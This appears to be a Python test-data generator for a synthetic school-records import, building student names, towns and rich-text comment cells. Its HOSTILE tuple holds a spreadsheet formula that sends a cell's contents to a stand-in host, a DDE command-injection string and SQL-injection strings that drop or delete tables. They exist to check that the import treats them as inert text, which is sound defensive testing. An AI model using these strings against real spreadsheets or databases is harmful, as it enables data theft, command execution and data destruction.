"""Text for the synthetic snapshot: names, rich-text comment blocks and hostile strings.

Read-only helpers. Long comment cells are built once per generator run from a small vocabulary and
reused with a per-record variation line, so realistic scale (~2.5 million physical lines,
docs/DOMAIN.md, “The system”) costs string concatenation, not random text per line.
"""

from __future__ import annotations

import random

FIRST_NAMES = (
    "Amelia", "Olivia", "Isla", "Ava", "Mia", "Freya", "Lily", "Grace", "Sophie", "Evie", "Noah",
    "Oliver", "George", "Arthur", "Leo", "Harry", "Oscar", "Jack", "Muhammad", "Charlie", "Zara",
    "Priya", "Siobhan", "Niamh", "Aled", "Rhys", "Chloé", "José", "Zoë", "Mateusz",
)
LAST_NAMES = (
    "Smith", "Jones", "Taylor", "Brown", "Williams", "Wilson", "Johnson", "Davies", "Patel", "Khan",
    "Evans", "Thomas", "Roberts", "Walker", "Wright", "Thompson", "O'Brien", "Nguyen", "Kowalski",
    "Murphy", "Hughes", "Edwards", "Green", "Hall", "Wood", "Clarke", "Ahmed", "Lewis", "Singh", "Baker",
)
TOWNS = (
    "Ashford", "Bramley", "Carlton", "Dunmore", "Eastleigh", "Fairfield", "Glenwood", "Hartley",
    "Ilford", "Kingsley", "Langley", "Marston", "Newbury", "Oakham", "Penrith", "Queensbury",
    "Redhill", "Stanford", "Thornbury", "Upton", "Ventnor", "Westbury", "Yarm", "Bendigo", "Geelong",
)
KINDS = ("Academy", "College", "Sixth Form College", "High School", "Grammar School", "School")

# docs/ARCHITECTURE.md, “Quality bars”: malformed inputs include formula-injection strings and SQL in text fields; they
# must survive the import as inert text.
HOSTILE = (
    '=HYPERLINK("http://evil.example/x?d="&A1,"Click here")',
    "'; DROP TABLE students;--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DELETE FROM vespa_scores WHERE ('1'='1",
    "+1-1, \"quoted\", and a comma",
)

_WORDS = (
    "I", "need", "to", "revise", "more", "for", "my", "mocks", "and", "plan", "the", "week",
    "ahead,", "because", "last", "term", "I", "left", "everything", "until", "the", "night",
    "before.", "My", "target", "grade", "is", "an", "A", "\"in", "maths\"", "so", "I'll", "use",
    "past", "papers,", "flashcards", "and", "ask", "my", "tutor", "for", "feedback.", "Sleep",
    "earlier;", "phone", "away", "after", "9pm.", "<b>Goal:</b>", "&amp;", "finish", "coursework",
)


def _line(rng: random.Random) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(rng.randint(4, 14)))


def comment_blocks(rng: random.Random, count: int = 48) -> list[str]:
    """``count`` multi-line rich-text blocks of 3..61 lines (a few very long ones), built once."""
    blocks = []
    for i in range(count):
        n_lines = 3 + (i * 7) % 59
        lines = [_line(rng) for _ in range(n_lines)]
        if i % 6 == 0:
            lines.insert(1, "")  # blank paragraph lines occur in Knack rich text
        if i % 11 == 0:
            lines.append("x" * 3000)  # a very long single line (pasted essay without breaks)
        blocks.append("\n".join(lines))
    return blocks


def comment_cell(rng: random.Random, blocks: list[str], first: str) -> str:
    """One comment cell: a shared block plus a per-record first line (the variation)."""
    return f"{first}: {rng.choice(_WORDS)} {rng.randint(1, 999)}\n{rng.choice(blocks)}"
